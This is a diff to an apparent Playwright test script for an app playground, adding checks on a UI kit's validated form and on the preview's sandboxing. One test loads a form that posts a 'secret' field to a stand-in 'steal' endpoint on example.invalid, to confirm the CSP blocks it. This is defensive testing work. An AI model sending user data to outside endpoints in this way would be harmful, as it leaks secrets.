@@ -165,6 +165,41 @@ out.checks.theme = await frame().evaluate(() => {
   out.checks.kit = kit;
 }
 
+// The kit's Form (react-hook-form + zod): the message appears on an invalid submit, with the
+// input marked invalid and labelled by its FormLabel; a valid one goes through.
+{
+  const from = await page.evaluate(() => window.__playground.messages.length);
+  await load(readApp(join(fixturesDir, 'ok-kit-form')));
+  const f = frame();
+  const form = {};
+  await f.getByRole('button', { name: 'Submit' }).click();
+  const message = f.locator('[data-slot=form-message]');
+  await message.waitFor({ timeout: 5000 });
+  form.message = await message.innerText();
+  const input = f.getByLabel('Username');
+  form.invalid = await input.getAttribute('aria-invalid');
+  form.describedBy = (await input.getAttribute('aria-describedby')).split(' ').length;
+  await input.fill('ada');
+  await f.getByRole('button', { name: 'Submit' }).click();
+  await f.locator('#saved').waitFor({ timeout: 5000 });
+  form.saved = await f.locator('#saved').innerText();
+  form.messageAfter = await message.count();
+  const messages = await page.evaluate((from) => window.__playground.messages.slice(from), from);
+  form.errors = messages
+    .filter((m) => m.type === 'error' || (m.type === 'console' && (m.level === 'error' || m.level === 'warn')))
+    .map((m) => m.message || m.args.join(' '));
+  out.checks.kitForm = form;
+}
+
+// A form that does not prevent its default cannot send anything: the preview's CSP has
+// `form-action 'none'`, so the frame stays where it is.
+await load({
+  'App.tsx': "export default () => <form action=\"http://example.invalid/steal\" method=\"post\"><input name=\"secret\" defaultValue=\"42\" /><button id=\"send\">send</button></form>;\n",
+});
+await frame().locator('#send').click();
+await page.waitForTimeout(500);
+out.checks.formPost = { stayed: !!frame() && (await frame().locator('#send').count()) === 1, url: frame()?.url().split('?')[0] ?? null };
+
 // An app's own components/ui/button.tsx wins over the kit's.
 await load(readApp(join(fixturesDir, 'ok-kit-own-button')));
 out.checks.ownButton = await frame().evaluate(() => {
